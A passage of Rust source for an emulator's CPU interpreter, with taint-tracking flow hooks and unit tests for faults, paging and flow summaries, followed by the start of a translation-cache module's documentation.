    /// faulting instruction) and no data-flow hooks have fired for it, so the
    /// kernel can deliver the fault precisely.
    pub fn step<H: CpuHooks>(
        &mut self,
        mem: &mut PhysMem,
        aspace: &AddressSpace,
        hooks: &mut H,
    ) -> StepEvent {
        let vaddr = self.ctx.eip;
        let (instr, len, code_phys) = match Self::fetch_decode(mem, aspace, vaddr) {
            Ok(ok) => ok,
            Err(ev) => return ev,
        };
        let ctx = InsnCtx {
            vaddr,
            code_phys,
            len: len as u8,
            instr,
            asid: self.asid,
            retired: self.retired,
        };
        hooks.on_insn(&ctx);
        let event = self.exec_instr(mem, aspace, hooks, &ctx);
        if !matches!(event, StepEvent::Fault(_)) {
            self.retired += 1;
        }
        event
    }

    /// The execute half of [`Cpu::step`]: runs an already-fetched
    /// instruction. Flow hooks fire only after every translation the
    /// instruction needs has succeeded, so a faulting instruction
    /// contributes no flows (the all-or-nothing property the block taint
    /// plans rely on). Does *not* bump the retired counter — callers retire
    /// non-faulting instructions themselves.
    pub(crate) fn exec_instr<H: CpuHooks>(
        &mut self,
        mem: &mut PhysMem,
        aspace: &AddressSpace,
        hooks: &mut H,
        ctx: &InsnCtx,
    ) -> StepEvent {
        let vaddr = ctx.vaddr;
        let next_eip = vaddr.wrapping_add(ctx.len as u32);

        // --- Execute ---
        macro_rules! reg_loc {
            ($r:expr) => {
                ShadowLoc::Reg { reg: $r, off: 0 }
            };
        }

        match ctx.instr {
            Instr::Nop => {
                self.ctx.eip = next_eip;
                StepEvent::Normal
            }
            Instr::Hlt => {
                self.ctx.eip = next_eip;
                StepEvent::Halt
            }
            Instr::MovRR { dst, src } => {
                self.set_reg(dst, self.reg(src));
                hooks.flow_copy(reg_loc!(dst), reg_loc!(src), 4);
                self.ctx.eip = next_eip;
                StepEvent::Normal
            }
            Instr::MovRI { dst, imm } => {
                self.set_reg(dst, imm);
                hooks.flow_delete(reg_loc!(dst), 4);
                self.ctx.eip = next_eip;
                StepEvent::Normal
            }
            Instr::Load { dst, mem: m, width } => {
                let addr = self.mem_addr(&m);
                let w = width.bytes();
                let phys = match Self::translate_range(aspace, addr, w, Access::Read) {
                    Ok(p) => p,
                    Err(f) => return StepEvent::Fault(f),
                };
                let val = Self::read_mem(mem, &phys, w);
                hooks.on_load(ctx, addr, &phys[..w], width, dst);
                self.set_reg(dst, val);
                // One batched flow per load (covers zero-extension); the
                // default hook decomposes it to the per-byte rules.
                hooks.flow_load(dst, &phys[..w]);
                let (srcs, n) = Self::addr_srcs(&m);
                if n > 0 {
                    // The destination register is contiguous, so the
                    // run-based form is not needed here.
                    hooks.flow_addr_dep(reg_loc!(dst), 4, &srcs[..n]);
                }
                self.ctx.eip = next_eip;
                StepEvent::Normal
            }
            Instr::Store { mem: m, src, width } => {
                let addr = self.mem_addr(&m);
                let w = width.bytes();
                let phys = match Self::translate_range(aspace, addr, w, Access::Write) {
                    Ok(p) => p,
                    Err(f) => return StepEvent::Fault(f),
                };
                hooks.on_store(ctx, addr, &phys[..w], width, src);
                Self::write_mem(mem, &phys, w, self.reg(src));
                hooks.flow_store(&phys[..w], src);
                let (srcs, n) = Self::addr_srcs(&m);
                if n > 0 {
                    // Per-byte form: `flow_addr_dep(Mem(phys[0]), w, ..)`
                    // would assume the w bytes are physically contiguous and
                    // taint the wrong frame on a page-crossing store.
                    hooks.flow_addr_dep_bytes(&phys[..w], &srcs[..n]);
                }
                self.ctx.eip = next_eip;
                StepEvent::Normal
            }
            Instr::Lea { dst, mem: m } => {
                let addr = self.mem_addr(&m);
                self.set_reg(dst, addr);
                let (srcs, n) = Self::addr_srcs(&m);
                hooks.flow_union(reg_loc!(dst), 4, &srcs[..n], false);
                self.ctx.eip = next_eip;
                StepEvent::Normal
            }
            Instr::Alu { op, dst, src } => {
                let b = match src {
                    Operand::Reg(r) => self.reg(r),
                    Operand::Imm(i) => i,
                };
                let a = self.reg(dst);
                let res = op.apply(a, b);
                self.set_reg(dst, res);
                self.ctx.flags.zf = res == 0;
                self.ctx.flags.sf = (res as i32) < 0;
                match src {
                    Operand::Reg(r) if r == dst && matches!(op, AluOp::Xor | AluOp::Sub) => {
                        // xor r, r / sub r, r: result is constant zero —
                        // the canonical taint-deleting idiom (paper §V-A).
                        hooks.flow_delete(reg_loc!(dst), 4);
                    }
                    Operand::Reg(r) => {
                        hooks.flow_union(reg_loc!(dst), 4, &[(reg_loc!(r), 4)], true);
                    }
                    Operand::Imm(_) => {
                        // Computation with an untainted constant: destination
                        // provenance is unchanged.
                    }
                }
                self.ctx.eip = next_eip;
                StepEvent::Normal
            }
            Instr::Cmp { a, b } => {
                let bv = match b {
                    Operand::Reg(r) => self.reg(r),
                    Operand::Imm(i) => i,
                };
                self.set_cmp_flags(self.reg(a), bv);
                match b {
                    Operand::Reg(r) => {
                        hooks.flow_flags(&[(reg_loc!(a), 4), (reg_loc!(r), 4)]);
                    }
                    Operand::Imm(_) => hooks.flow_flags(&[(reg_loc!(a), 4)]),
                }
                self.ctx.eip = next_eip;
                StepEvent::Normal
            }
            Instr::Test { a, b } => {
                let bv = match b {
                    Operand::Reg(r) => self.reg(r),
                    Operand::Imm(i) => i,
                };
                let res = self.reg(a) & bv;
                self.ctx.flags.zf = res == 0;
                self.ctx.flags.sf = (res as i32) < 0;
                self.ctx.flags.cf = false;
                self.ctx.flags.of = false;
                match b {
                    Operand::Reg(r) => {
                        hooks.flow_flags(&[(reg_loc!(a), 4), (reg_loc!(r), 4)]);
                    }
                    Operand::Imm(_) => hooks.flow_flags(&[(reg_loc!(a), 4)]),
                }
                self.ctx.eip = next_eip;
                StepEvent::Normal
            }
            Instr::Jmp { rel } => {
                let target = next_eip.wrapping_add(rel as u32);
                hooks.on_control(ctx, target, None);
                self.ctx.eip = target;
                StepEvent::Branch
            }
            Instr::Jcc { cond, rel } => {
                let taken = self.cond_holds(cond);
                hooks.on_branch(ctx, taken);
                self.ctx.eip = if taken {
                    next_eip.wrapping_add(rel as u32)
                } else {
                    next_eip
                };
                StepEvent::Branch
            }
            Instr::Call { rel } => {
                let target = next_eip.wrapping_add(rel as u32);
                let sp = self.reg(Reg::Esp).wrapping_sub(4);
                let phys = match Self::translate_range(aspace, sp, 4, Access::Write) {
                    Ok(p) => p,
                    Err(f) => return StepEvent::Fault(f),
                };
                Self::write_mem(mem, &phys, 4, next_eip);
                hooks.flow_delete_mem(&phys);
                self.set_reg(Reg::Esp, sp);
                hooks.on_control(ctx, target, None);
                self.ctx.eip = target;
                StepEvent::Branch
            }
            Instr::CallReg { target } => {
                let tgt = self.reg(target);
                let sp = self.reg(Reg::Esp).wrapping_sub(4);
                let phys = match Self::translate_range(aspace, sp, 4, Access::Write) {
                    Ok(p) => p,
                    Err(f) => return StepEvent::Fault(f),
                };
                Self::write_mem(mem, &phys, 4, next_eip);
                hooks.flow_delete_mem(&phys);
                self.set_reg(Reg::Esp, sp);
                hooks.on_control(ctx, tgt, Some(reg_loc!(target)));
                self.ctx.eip = tgt;
                StepEvent::Branch
            }
            Instr::JmpReg { target } => {
                let tgt = self.reg(target);
                hooks.on_control(ctx, tgt, Some(reg_loc!(target)));
                self.ctx.eip = tgt;
                StepEvent::Branch
            }
            Instr::Ret => {
                let sp = self.reg(Reg::Esp);
                let phys = match Self::translate_range(aspace, sp, 4, Access::Read) {
                    Ok(p) => p,
                    Err(f) => return StepEvent::Fault(f),
                };
                let target = Self::read_mem(mem, &phys, 4);
                self.set_reg(Reg::Esp, sp.wrapping_add(4));
                hooks.on_control(ctx, target, Some(ShadowLoc::Mem(phys[0])));
                self.ctx.eip = target;
                StepEvent::Branch
            }
            Instr::Push { src } => {
                let sp = self.reg(Reg::Esp).wrapping_sub(4);
                let phys = match Self::translate_range(aspace, sp, 4, Access::Write) {
                    Ok(p) => p,
                    Err(f) => return StepEvent::Fault(f),
                };
                Self::write_mem(mem, &phys, 4, self.reg(src));
                hooks.flow_store(&phys, src);
                self.set_reg(Reg::Esp, sp);
                self.ctx.eip = next_eip;
                StepEvent::Normal
            }
            Instr::PushImm { imm } => {
                let sp = self.reg(Reg::Esp).wrapping_sub(4);
                let phys = match Self::translate_range(aspace, sp, 4, Access::Write) {
                    Ok(p) => p,
                    Err(f) => return StepEvent::Fault(f),
                };
                Self::write_mem(mem, &phys, 4, imm);
                hooks.flow_delete_mem(&phys);
                self.set_reg(Reg::Esp, sp);
                self.ctx.eip = next_eip;
                StepEvent::Normal
            }
            Instr::Pop { dst } => {
                let sp = self.reg(Reg::Esp);
                let phys = match Self::translate_range(aspace, sp, 4, Access::Read) {
                    Ok(p) => p,
                    Err(f) => return StepEvent::Fault(f),
                };
                let val = Self::read_mem(mem, &phys, 4);
                self.set_reg(dst, val);
                hooks.flow_load(dst, &phys);
                self.set_reg(Reg::Esp, sp.wrapping_add(4));
                self.ctx.eip = next_eip;
                StepEvent::Normal
            }
            Instr::Int { vector } => {
                self.ctx.eip = next_eip;
                if vector == SYSCALL_VECTOR {
                    StepEvent::Syscall { vector }
                } else {
                    // Unknown vectors behave as an illegal operation.
                    StepEvent::Illegal { vaddr, err: DecodeError::BadOpcode(vector) }
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::asm::Asm;
    use crate::mem::PAGE_SIZE;
    use crate::mmu::Perms;

    fn machine(code: &Asm) -> (Cpu, PhysMem, AddressSpace) {
        let mut mem = PhysMem::new(16);
        let code_frame = mem.alloc_frame().unwrap();
        let data_frame = mem.alloc_frame().unwrap();
        let stack_frame = mem.alloc_frame().unwrap();
        let mut aspace = AddressSpace::new(Asid(0x1000));
        aspace.map(0x1000, code_frame, Perms::RX);
        aspace.map(0x2000, data_frame, Perms::RW);
        aspace.map(0x3000, stack_frame, Perms::RW);
        let bytes = code.clone().assemble().unwrap();
        assert!(bytes.len() <= PAGE_SIZE as usize);
        mem.write(code_frame * PAGE_SIZE, &bytes).unwrap();
        let mut cpu = Cpu::new();
        cpu.context_mut().eip = 0x1000;
        cpu.set_reg(Reg::Esp, 0x4000); // top of stack page
        cpu.set_asid(Asid(0x1000));
        (cpu, mem, aspace)
    }

    fn run(cpu: &mut Cpu, mem: &mut PhysMem, aspace: &AddressSpace) -> StepEvent {
        for _ in 0..10_000 {
            let ev = cpu.step(mem, aspace, &mut NoHooks);
            match ev {
                StepEvent::Normal | StepEvent::Branch => continue,
                other => return other,
            }
        }
        panic!("program did not terminate");
    }

    #[test]
    fn arithmetic_and_flags() {
        let mut a = Asm::new(0x1000);
        a.mov_ri(Reg::Eax, 10);
        a.mov_ri(Reg::Ebx, 3);
        a.sub_rr(Reg::Eax, Reg::Ebx); // 7
        a.mul_ri(Reg::Eax, 6); // 42
        a.hlt();
        let (mut cpu, mut mem, aspace) = machine(&a);
        assert_eq!(run(&mut cpu, &mut mem, &aspace), StepEvent::Halt);
        assert_eq!(cpu.reg(Reg::Eax), 42);
    }

    #[test]
    fn loads_and_stores_round_trip() {
        let mut a = Asm::new(0x1000);
        a.mov_ri(Reg::Eax, 0xcafe_babe);
        a.st4(Mem::abs(0x2010), Reg::Eax);
        a.ld4(Reg::Ebx, Mem::abs(0x2010));
        a.ld1(Reg::Ecx, Mem::abs(0x2010)); // low byte, zero-extended
        a.hlt();
        let (mut cpu, mut mem, aspace) = machine(&a);
        assert_eq!(run(&mut cpu, &mut mem, &aspace), StepEvent::Halt);
        assert_eq!(cpu.reg(Reg::Ebx), 0xcafe_babe);
        assert_eq!(cpu.reg(Reg::Ecx), 0xbe);
    }

    #[test]
    fn scaled_index_addressing() {
        let mut a = Asm::new(0x1000);
        // table[i] for i = 3 with 4-byte entries at 0x2000.
        a.mov_ri(Reg::Ebx, 0x2000);
        a.mov_ri(Reg::Ecx, 3);
        a.ld4(Reg::Eax, Mem::table(Reg::Ebx, Reg::Ecx, 4));
        a.hlt();
        let (mut cpu, mut mem, aspace) = machine(&a);
        mem.write_u32(PAGE_SIZE + 12, 0x1234_5678).unwrap(); // data frame is pfn 1
        assert_eq!(run(&mut cpu, &mut mem, &aspace), StepEvent::Halt);
        assert_eq!(cpu.reg(Reg::Eax), 0x1234_5678);
    }

    #[test]
    fn loop_with_conditional_branch() {
        let mut a = Asm::new(0x1000);
        a.mov_ri(Reg::Eax, 0);
        a.mov_ri(Reg::Ecx, 5);
        a.label("loop");
        a.add_ri(Reg::Eax, 2);
        a.sub_ri(Reg::Ecx, 1);
        a.cmp_ri(Reg::Ecx, 0);
        a.jnz("loop");
        a.hlt();
        let (mut cpu, mut mem, aspace) = machine(&a);
        assert_eq!(run(&mut cpu, &mut mem, &aspace), StepEvent::Halt);
        assert_eq!(cpu.reg(Reg::Eax), 10);
    }

    #[test]
    fn call_ret_uses_stack() {
        let mut a = Asm::new(0x1000);
        a.call("fn");
        a.add_ri(Reg::Eax, 1); // executes after ret
        a.hlt();
        a.label("fn");
        a.mov_ri(Reg::Eax, 41);
        a.ret();
        let (mut cpu, mut mem, aspace) = machine(&a);
        assert_eq!(run(&mut cpu, &mut mem, &aspace), StepEvent::Halt);
        assert_eq!(cpu.reg(Reg::Eax), 42);
        assert_eq!(cpu.reg(Reg::Esp), 0x4000, "stack balanced");
    }

    #[test]
    fn push_pop() {
        let mut a = Asm::new(0x1000);
        a.mov_ri(Reg::Eax, 7);
        a.push(Reg::Eax);
        a.push_imm(9);
        a.pop(Reg::Ebx); // 9
        a.pop(Reg::Ecx); // 7
        a.hlt();
        let (mut cpu, mut mem, aspace) = machine(&a);
        assert_eq!(run(&mut cpu, &mut mem, &aspace), StepEvent::Halt);
        assert_eq!(cpu.reg(Reg::Ebx), 9);
        assert_eq!(cpu.reg(Reg::Ecx), 7);
    }

    #[test]
    fn syscall_gate_reports_vector() {
        let mut a = Asm::new(0x1000);
        a.mov_ri(Reg::Eax, 5);
        a.int_syscall();
        a.hlt();
        let (mut cpu, mut mem, aspace) = machine(&a);
        let mut ev = cpu.step(&mut mem, &aspace, &mut NoHooks);
        while ev == StepEvent::Normal {
            ev = cpu.step(&mut mem, &aspace, &mut NoHooks);
        }
        assert_eq!(ev, StepEvent::Syscall { vector: SYSCALL_VECTOR });
        // eip advanced past the gate: kernel resumes after it.
        assert_eq!(cpu.step(&mut mem, &aspace, &mut NoHooks), StepEvent::Halt);
    }

    #[test]
    fn write_to_ro_page_faults_precisely() {
        let mut a = Asm::new(0x1000);
        a.mov_ri(Reg::Eax, 1);
        a.st4(Mem::abs(0x1000), Reg::Eax); // code page is RX
        a.hlt();
        let (mut cpu, mut mem, aspace) = machine(&a);
        let ev = run(&mut cpu, &mut mem, &aspace);
        assert_eq!(
            ev,
            StepEvent::Fault(Fault::Protection { vaddr: 0x1000, access: Access::Write })
        );
        // eip still points at the faulting store (precise fault).
        let (i, _) = decode(&{
            let p = aspace.translate(cpu.context().eip, Access::Exec).unwrap();
            let mut b = [0u8; MAX_INSTR_LEN];
            mem.read(p, &mut b).unwrap();
            b
        })
        .unwrap();
        assert!(matches!(i, Instr::Store { .. }));
    }

    #[test]
    fn jump_to_unmapped_page_faults() {
        let mut a = Asm::new(0x1000);
        a.mov_ri(Reg::Eax, 0x7000_0000);
        a.jmp_reg(Reg::Eax);
        let (mut cpu, mut mem, aspace) = machine(&a);
        let ev = run(&mut cpu, &mut mem, &aspace);
        assert!(matches!(ev, StepEvent::Fault(Fault::NotMapped { vaddr: 0x7000_0000 })));
    }

    #[test]
    fn illegal_bytes_fault() {
        let mut mem = PhysMem::new(2);
        let f = mem.alloc_frame().unwrap();
        let mut aspace = AddressSpace::new(Asid(1));
        aspace.map(0x1000, f, Perms::RX);
        mem.write(f * PAGE_SIZE, &[0xff, 0xff]).unwrap();
        let mut cpu = Cpu::new();
        cpu.context_mut().eip = 0x1000;
        let ev = cpu.step(&mut mem, &aspace, &mut NoHooks);
        assert!(matches!(ev, StepEvent::Illegal { vaddr: 0x1000, .. }));
        assert!(ev.is_fatal());
    }

    #[test]
    fn flow_events_for_mov_chain() {
        #[derive(Default)]
        struct Recorder {
            copies: Vec<(ShadowLoc, ShadowLoc, u8)>,
            deletes: Vec<(ShadowLoc, u8)>,
        }
        impl CpuHooks for Recorder {
            fn flow_copy(&mut self, dst: ShadowLoc, src: ShadowLoc, len: u8) {
                self.copies.push((dst, src, len));
            }
            fn flow_delete(&mut self, dst: ShadowLoc, len: u8) {
                self.deletes.push((dst, len));
            }
        }
        let mut a = Asm::new(0x1000);
        a.mov_ri(Reg::Eax, 5); // delete eax
        a.mov_rr(Reg::Ebx, Reg::Eax); // copy eax -> ebx
        a.xor_rr(Reg::Ecx, Reg::Ecx); // delete ecx
        a.hlt();
        let (mut cpu, mut mem, aspace) = machine(&a);
        let mut rec = Recorder::default();
        while !matches!(cpu.step(&mut mem, &aspace, &mut rec), StepEvent::Halt) {}
        assert_eq!(
            rec.copies,
            vec![(
                ShadowLoc::Reg { reg: Reg::Ebx, off: 0 },
                ShadowLoc::Reg { reg: Reg::Eax, off: 0 },
                4
            )]
        );
        assert_eq!(rec.deletes.len(), 2);
        assert_eq!(rec.deletes[0], (ShadowLoc::Reg { reg: Reg::Eax, off: 0 }, 4));
        assert_eq!(rec.deletes[1], (ShadowLoc::Reg { reg: Reg::Ecx, off: 0 }, 4));
    }

    #[test]
    fn load_reports_physical_address() {
        struct LoadWatch(Option<(u32, Vec<u32>)>);
        impl CpuHooks for LoadWatch {
            fn on_load(&mut self, _ctx: &InsnCtx, vaddr: u32, phys: &[u32], _w: Width, _d: Reg) {
                self.0 = Some((vaddr, phys.to_vec()));
            }
        }
        let mut a = Asm::new(0x1000);
        a.ld4(Reg::Eax, Mem::abs(0x2014));
        a.hlt();
        let (mut cpu, mut mem, aspace) = machine(&a);
        let mut w = LoadWatch(None);
        while !matches!(cpu.step(&mut mem, &aspace, &mut w), StepEvent::Halt) {}
        // data page (0x2000) maps to pfn 1 in the test fixture.
        let base = PAGE_SIZE + 0x14;
        assert_eq!(w.0, Some((0x2014, vec![base, base + 1, base + 2, base + 3])));
    }

    #[test]
    fn shadow_loc_checked_offset_reports_register_overflow() {
        // Regression for the offset-clamp aliasing bug: `offset` used to
        // silently collapse every out-of-range register offset onto byte 3,
        // merging distinct sub-register taint bytes. The checked form makes
        // the overflow visible so consumers can treat the byte as absent.
        assert_eq!(
            ShadowLoc::Reg { reg: Reg::Eax, off: 1 }.checked_offset(2),
            Some(ShadowLoc::Reg { reg: Reg::Eax, off: 3 })
        );
        assert_eq!(ShadowLoc::Reg { reg: Reg::Eax, off: 2 }.checked_offset(2), None);
        assert_eq!(ShadowLoc::Reg { reg: Reg::Eax, off: 3 }.checked_offset(u8::MAX), None);
        assert_eq!(ShadowLoc::Mem(10).checked_offset(3), Some(ShadowLoc::Mem(13)));
        // In-range offsets agree between the two forms.
        assert_eq!(
            ShadowLoc::Reg { reg: Reg::Ebx, off: 0 }.offset(3),
            ShadowLoc::Reg { reg: Reg::Ebx, off: 3 }
        );
        assert_eq!(ShadowLoc::Mem(u32::MAX).offset(1), ShadowLoc::Mem(0));
    }

    #[test]
    fn instruction_ending_at_page_boundary_does_not_touch_next_page() {
        // Regression for the overfetch bug: fetch used to translate all
        // MAX_INSTR_LEN bytes, so a short instruction flush against an
        // unmapped page faulted spuriously. Place `mov eax, 42` (6 bytes)
        // so it ends exactly at the end of the code page, with nothing
        // mapped above it.
        let mut mem = PhysMem::new(4);
        let code_frame = mem.alloc_frame().unwrap();
        let mut aspace = AddressSpace::new(Asid(1));
        aspace.map(0x1000, code_frame, Perms::RX);
        let start = 0x2000 - 6;
        let mut a = Asm::new(start);
        a.mov_ri(Reg::Eax, 42);
        let bytes = a.assemble().unwrap();
        assert_eq!(bytes.len(), 6, "test assumes mov_ri encodes to 6 bytes");
        mem.write(code_frame * PAGE_SIZE + (start - 0x1000), &bytes).unwrap();
        let mut cpu = Cpu::new();
        cpu.context_mut().eip = start;
        cpu.set_asid(Asid(1));
        assert_eq!(cpu.step(&mut mem, &aspace, &mut NoHooks), StepEvent::Normal);
        assert_eq!(cpu.reg(Reg::Eax), 42);
        assert_eq!(cpu.context().eip, 0x2000);
        // Falling off the end of the page still faults precisely.
        assert_eq!(
            cpu.step(&mut mem, &aspace, &mut NoHooks),
            StepEvent::Fault(Fault::NotMapped { vaddr: 0x2000 })
        );
    }

    #[test]
    fn instruction_crossing_into_mapped_page_executes() {
        let mut mem = PhysMem::new(4);
        let lo = mem.alloc_frame().unwrap();
        let hi = mem.alloc_frame().unwrap();
        let mut aspace = AddressSpace::new(Asid(1));
        aspace.map(0x1000, lo, Perms::RX);
        aspace.map(0x2000, hi, Perms::RX);
        let start = 0x2000 - 2; // 6-byte mov: 2 bytes below, 4 above
        let mut a = Asm::new(start);
        a.mov_ri(Reg::Ebx, 0xdead_beef);
        let bytes = a.assemble().unwrap();
        mem.write(lo * PAGE_SIZE + PAGE_SIZE - 2, &bytes[..2]).unwrap();
        mem.write(hi * PAGE_SIZE, &bytes[2..]).unwrap();
        struct PhysWatch(Vec<u32>);
        impl CpuHooks for PhysWatch {
            fn on_insn(&mut self, ctx: &InsnCtx) {
                self.0 = ctx.code_bytes().to_vec();
            }
        }
        let mut cpu = Cpu::new();
        cpu.context_mut().eip = start;
        cpu.set_asid(Asid(1));
        let mut w = PhysWatch(Vec::new());
        assert_eq!(cpu.step(&mut mem, &aspace, &mut w), StepEvent::Normal);
        assert_eq!(cpu.reg(Reg::Ebx), 0xdead_beef);
        // code_phys lands the spill bytes on the second frame.
        let expect = vec![
            lo * PAGE_SIZE + PAGE_SIZE - 2,
            lo * PAGE_SIZE + PAGE_SIZE - 1,
            hi * PAGE_SIZE,
            hi * PAGE_SIZE + 1,
            hi * PAGE_SIZE + 2,
            hi * PAGE_SIZE + 3,
        ];
        assert_eq!(w.0, expect);
    }

    #[test]
    fn instruction_crossing_into_unmapped_page_faults_at_boundary() {
        let mut mem = PhysMem::new(4);
        let lo = mem.alloc_frame().unwrap();
        let mut aspace = AddressSpace::new(Asid(1));
        aspace.map(0x1000, lo, Perms::RX);
        let start = 0x2000 - 2;
        let mut a = Asm::new(start);
        a.mov_ri(Reg::Ebx, 1);
        let bytes = a.assemble().unwrap();
        mem.write(lo * PAGE_SIZE + PAGE_SIZE - 2, &bytes[..2]).unwrap();
        let mut cpu = Cpu::new();
        cpu.context_mut().eip = start;
        cpu.set_asid(Asid(1));
        assert_eq!(
            cpu.step(&mut mem, &aspace, &mut NoHooks),
            StepEvent::Fault(Fault::NotMapped { vaddr: 0x2000 })
        );
        assert_eq!(cpu.context().eip, start, "fault is precise");
    }

    #[test]
    fn flow_summary_matches_live_flow_dispatch() {
        // FlowSummary::of_instr is the decode-time taint plan; it must agree
        // with the flow calls the interpreter actually makes. Run a program
        // covering every flow-relevant instruction shape and compare the
        // hook-counted totals against the sum of the static summaries.
        #[derive(Default)]
        struct FlowCount {
            live: FlowSummary,
            planned: FlowSummary,
        }
        impl CpuHooks for FlowCount {
            fn on_insn(&mut self, ctx: &InsnCtx) {
                self.planned.add(&FlowSummary::of_instr(&ctx.instr));
            }
            fn flow_copy(&mut self, _dst: ShadowLoc, _src: ShadowLoc, len: u8) {
                self.live.copy_ops += 1;
                self.live.copy_bytes += len as u32;
            }
            fn flow_union(
                &mut self,
                _dst: ShadowLoc,
                _dst_len: u8,
                _srcs: &[(ShadowLoc, u8)],
                _keep: bool,
            ) {
                self.live.union_ops += 1;
            }
            fn flow_delete(&mut self, _dst: ShadowLoc, len: u8) {
                self.live.delete_ops += 1;
                self.live.delete_bytes += len as u32;
            }
            fn flow_addr_dep(&mut self, _d: ShadowLoc, _l: u8, _s: &[(ShadowLoc, u8)]) {
                self.live.addr_dep_reg_ops += 1;
            }
            fn flow_addr_dep_bytes(&mut self, _phys: &[u32], _s: &[(ShadowLoc, u8)]) {
                self.live.addr_dep_mem_ops += 1;
            }
            // Batched flows count like the taint engine consumes them: one
            // copy op covering the access, plus the zero-extension delete.
            fn flow_load(&mut self, _dst: Reg, phys: &[u32]) {
                self.live.copy_ops += 1;
                self.live.copy_bytes += phys.len() as u32;
                if phys.len() < 4 {
                    self.live.delete_ops += 1;
                    self.live.delete_bytes += (4 - phys.len()) as u32;
                }
            }
            fn flow_store(&mut self, phys: &[u32], _src: Reg) {
                self.live.copy_ops += 1;
                self.live.copy_bytes += phys.len() as u32;
            }
            fn flow_delete_mem(&mut self, phys: &[u32]) {
                self.live.delete_ops += 1;
                self.live.delete_bytes += phys.len() as u32;
            }
        }
        let mut a = Asm::new(0x1000);
        a.mov_ri(Reg::Eax, 0x2010); // delete
        a.mov_rr(Reg::Ebx, Reg::Eax); // copy
        a.st4(Mem::reg(Reg::Eax), Reg::Ebx); // store + mem addr dep
        a.ld4(Reg::Ecx, Mem::reg(Reg::Eax)); // load + reg addr dep
        a.ld1(Reg::Edx, Mem::abs(0x2010)); // narrow load, no addr dep
        a.add_ri(Reg::Ebx, 1); // imm alu: no flow
        a.sub_rr(Reg::Ebx, Reg::Ecx); // union
        a.xor_rr(Reg::Edx, Reg::Edx); // delete idiom
        a.cmp_ri(Reg::Ebx, 0); // flags only
        a.jnz("skip");
        a.label("skip");
        a.push(Reg::Ebx); // store
        a.push_imm(7); // delete_mem
        a.pop(Reg::Ecx); // load
        a.call("fn");
        a.hlt();
        a.label("fn");
        a.ret();
        let (mut cpu, mut mem, aspace) = machine(&a);
        let mut counts = FlowCount::default();
        while !matches!(cpu.step(&mut mem, &aspace, &mut counts), StepEvent::Halt) {}
        assert!(!counts.planned.is_empty());
        assert_eq!(counts.live, counts.planned);
    }

    #[test]
    fn page_crossing_store_reports_per_byte_addr_deps() {
        // Regression for the page-crossing address-dependency bug: the CPU
        // used to emit `flow_addr_dep(Mem(phys[0]), w, ..)`, which assumes
        // the w translated bytes are contiguous. Map two *non-adjacent*
        // physical frames at adjacent virtual pages and verify each byte's
        // own physical address is reported.
        #[derive(Default)]
        struct DepWatch {
            runs: Vec<Vec<u32>>,
            store_phys: Vec<u32>,
        }
        impl CpuHooks for DepWatch {
            fn flow_addr_dep_bytes(&mut self, phys: &[u32], _srcs: &[(ShadowLoc, u8)]) {
                self.runs.push(phys.to_vec());
            }
            fn on_store(&mut self, _c: &InsnCtx, _v: u32, phys: &[u32], _w: Width, _s: Reg) {
                self.store_phys = phys.to_vec();
            }
        }
        let mut mem = PhysMem::new(16);
        let code_frame = mem.alloc_frame().unwrap();
        let lo_frame = mem.alloc_frame().unwrap();
        let _gap = mem.alloc_frame().unwrap();
        let hi_frame = mem.alloc_frame().unwrap(); // not adjacent to lo_frame
        let mut aspace = AddressSpace::new(Asid(7));
        aspace.map(0x1000, code_frame, Perms::RX);
        aspace.map(0x2000, lo_frame, Perms::RW);
        aspace.map(0x3000, hi_frame, Perms::RW);
        // Store 4 bytes at 0x2ffe: two bytes on lo_frame, two on hi_frame,
        // through a base register so an address dependency is emitted.
        let mut a = Asm::new(0x1000);
        a.mov_ri(Reg::Ebx, 0x2ffe);
        a.mov_ri(Reg::Eax, 0xdead_beef);
        a.st4(Mem::reg(Reg::Ebx), Reg::Eax);
        a.hlt();
        mem.write(code_frame * PAGE_SIZE, &a.assemble().unwrap()).unwrap();
        let mut cpu = Cpu::new();
        cpu.context_mut().eip = 0x1000;
        cpu.set_asid(Asid(7));
        let mut w = DepWatch::default();
        while !matches!(cpu.step(&mut mem, &aspace, &mut w), StepEvent::Halt) {}
        let expect = vec![
            lo_frame * PAGE_SIZE + 0xffe,
            lo_frame * PAGE_SIZE + 0xfff,
            hi_frame * PAGE_SIZE,
            hi_frame * PAGE_SIZE + 1,
        ];
        assert_eq!(w.store_phys, expect, "on_store sees every translated byte");
        assert_eq!(w.runs, vec![expect], "addr dep carries per-byte frames");
    }

    #[test]
    fn retired_counter_advances() {
        let mut a = Asm::new(0x1000);
        a.nop();
        a.nop();
        a.hlt();
        let (mut cpu, mut mem, aspace) = machine(&a);
        run(&mut cpu, &mut mem, &aspace);
        assert_eq!(cpu.retired(), 3);
    }
}
