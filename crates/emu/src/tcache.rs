//! The decode-once translation cache.
//!
//! [`Cpu::step`] pays a full fetch + translate + decode for every retired
//! instruction. The [`TransCache`] removes that cost the way QEMU's TB cache
//! (and SpiderPig's pre-instrumented code regions) do: guest code is decoded
//! once into per-address-space *cached blocks* — straight-line instruction
//! runs ending at a control transfer — and re-executed from the decoded form.
//! Each cached instruction carries its decode-time [`FlowSummary`] ("taint
//! plan"), so when the hook stack reports a provably clean shadow state
//! ([`CpuHooks::flow_block_begin`]) the executor elides every per-op flow
//! dispatch in the block and replays the summed plan in a single
//! [`CpuHooks::flow_block_end`] call.
//!
//! # Key scheme and invalidation
//!
//! Blocks are keyed by `(asid, entry VA)`; the *code version* is implicit —
//! any write into a frame that holds cached code invalidates the whole cache
//! and bumps [`TransCache::version`]. Invalidations come from two directions:
//!
//! * **guest stores** — the block executor watches every store-flavored flow
//!   hook through a [`CodeWatch`] and stops the current block before the
//!   next instruction when a watched frame was hit, so self-modifying code
//!   re-decodes before any stale instruction executes;
//! * **kernel writes and mapping changes** — the kernel calls
//!   [`TransCache::note_write`] for writes performed on behalf of syscalls
//!   and [`TransCache::invalidate_all`] when mappings change (module
//!   load/unload, permission changes), since a remap can silently change
//!   what a virtual address decodes to.
//!
//! Correctness bar: running a workload through [`Cpu::run_cached`] must be
//! observably identical — hook for hook, counter for counter — to running it
//! through [`Cpu::step`]. The corpus-wide differential gate in CI holds the
//! two executors to byte-identical analysis reports.

use crate::cpu::{Cpu, CpuHooks, FlowSummary, InsnCtx, ShadowLoc, StepEvent};
use crate::encode::MAX_INSTR_LEN;
use crate::isa::{Instr, Reg, Width};
use crate::mem::{page_number, PhysMem};
use crate::mmu::{AddressSpace, Asid};
use std::cell::Cell;
use std::collections::HashMap;

/// Upper bound on instructions per cached block; straight-line runs longer
